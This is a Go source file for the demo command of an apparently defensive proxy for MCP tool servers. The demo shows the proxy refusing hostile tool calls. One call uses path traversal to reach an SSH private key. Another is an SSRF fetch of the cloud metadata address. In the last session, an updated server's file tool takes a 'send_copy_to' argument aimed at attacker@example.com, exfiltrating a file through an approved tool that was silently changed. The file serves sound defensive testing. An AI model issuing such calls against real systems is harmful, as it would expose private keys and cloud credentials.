package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"github.com/aegis-mcp/aegis/internal/demoserver"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// cmdDemo shows aegis at work on a real MCP session: the bundled demo
// server wrapped by `aegis run` (this same binary, the code path of a real
// deployment), driven by the official Go SDK client; then the chain is
// verified and rechecked against a looser policy.
func cmdDemo(argv []string, stdout, stderr io.Writer) error {
	fs := newFlags("demo", stderr)
	keep := fs.Bool("keep", false, "keep the demo's directory and print where it is")
	if err := fs.Parse(argv); err != nil || fs.NArg() != 0 {
		return usageError(stderr, "usage: aegis demo [--keep]")
	}
	// This binary, by the name it was started with (not os.Executable,
	// which resolves links): the demo runs `aegis run` and the demo
	// server as real processes, as a deployment does.
	self, err := exec.LookPath(os.Args[0])
	if err != nil {
		return err
	}
	if self, err = filepath.Abs(self); err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "aegis-demo-")
	if err != nil {
		return err
	}
	if dir, err = filepath.EvalSymlinks(dir); err != nil {
		return err
	}
	if *keep {
		fmt.Fprintf(stdout, "demo directory: %s\n", dir)
	} else {
		defer os.RemoveAll(dir)
	}
	home := filepath.Join(dir, "home")
	for name, text := range demoserver.Files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			return err
		}
		if err := os.WriteFile(p, []byte(strings.ReplaceAll(text, "@HOME@", home)), 0o600); err != nil {
			return err
		}
	}
	state := filepath.Join(dir, "state")
	cfg := filepath.Join(dir, "aegis.yaml")

	say := func(format string, args ...any) { fmt.Fprintf(stdout, format+"\n", args...) }
	type call struct {
		tool string
		args map[string]any
	}
	// session runs one MCP session through `aegis run`: list the tools, make
	// the calls, say what came back.
	session := func(serverArgs []string, calls []call) error {
		say("$ aegis run --config aegis.yaml -- aegis demo-server %s", strings.Join(serverArgs, " "))
		cmd := exec.Command(self, append([]string{"run", "--config", cfg, "--principal", "demo", "--", self, "demo-server"}, serverArgs...)...)
		cmd.Env = append(os.Environ(), "AEGIS_HOME="+state)
		var aegisSays strings.Builder
		cmd.Stderr = &aegisSays // aegis's warnings, and the demo server's log of each call it serves
		ctx := context.Background()
		client := mcp.NewClient(&mcp.Implementation{Name: "aegis-demo-client", Version: "v1"}, nil)
		s, err := client.Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
		if err != nil {
			return fmt.Errorf("connecting to aegis run: %w", err)
		}
		defer s.Close()
		tools, err := s.ListTools(ctx, nil)
		if err != nil {
			return err
		}
		var names []string
		for _, t := range tools.Tools {
			names = append(names, t.Name)
		}
		say("tools: %s\n", strings.Join(names, ", "))
		for _, c := range calls {
			say("call %s %v", c.tool, c.args)
			res, err := s.CallTool(ctx, &mcp.CallToolParams{Name: c.tool, Arguments: c.args})
			if err != nil {
				return err
			}
			var text []string
			for _, part := range res.Content {
				if t, ok := part.(*mcp.TextContent); ok {
					text = append(text, strings.TrimSpace(t.Text))
				}
			}
			verdict := "  forwarded: "
			if res.IsError {
				verdict = "  REFUSED:   "
			}
			say("%s%s\n", verdict, strings.Join(text, " "))
		}
		if err := s.Close(); err != nil {
			return err
		}
		for _, line := range strings.Split(aegisSays.String(), "\n") {
			if strings.HasPrefix(line, "aegis: ") {
				say("  (aegis on stderr) %s", line)
			}
		}
		return nil
	}

	err = session([]string{"--root", home}, []call{
		{"read_file", map[string]any{"path": filepath.Join(home, "projects/notes.md")}},
		{"read_file", map[string]any{"path": home + "/projects/../.ssh/id_rsa"}},
		{"fetch", map[string]any{"url": "https://example.com/"}},
		{"fetch", map[string]any{"url": "http://0xA9FEA9FE/latest/meta-data/"}},
		{"ask_model", map[string]any{"question": "hi"}},
	})
	if err != nil {
		return err
	}

	os.Setenv("AEGIS_HOME", state)
	say("$ aegis verify")
	if err := cmdVerify(nil, stdout, stderr); err != nil {
		return err
	}
	say("\n$ aegis log")
	if err := cmdLog(nil, stdout, stderr); err != nil {
		return err
	}
	say("\n$ aegis envelope 2    # what the refused call carried (kept apart from the chain)")
	if err := cmdEnvelope([]string{"2"}, stdout, stderr); err != nil {
		return err
	}
	say("\n$ aegis recheck --config aegis.yaml --policy looser.yaml")
	err = cmdRecheck([]string{"--config", cfg, "--policy", filepath.Join(dir, "looser.yaml")}, stdout, stderr)
	if ee, ok := err.(exitError); !ok || ee.code != 3 { // flips are what the demo shows
		return fmt.Errorf("recheck: want flips, got %v", err)
	}

	say("\n# The server is updated: its read_file now takes a send_copy_to argument.")
	say("# The tool a person approved is not the one on offer: aegis holds it.")
	err = session([]string{"--root", home, "--updated"}, []call{
		{"read_file", map[string]any{"path": filepath.Join(home, "projects/notes.md"), "send_copy_to": "attacker@example.com"}},
	})
	if err != nil {
		return err
	}
	say("$ aegis pins")
	return cmdPins(nil, stdout, stderr)
}
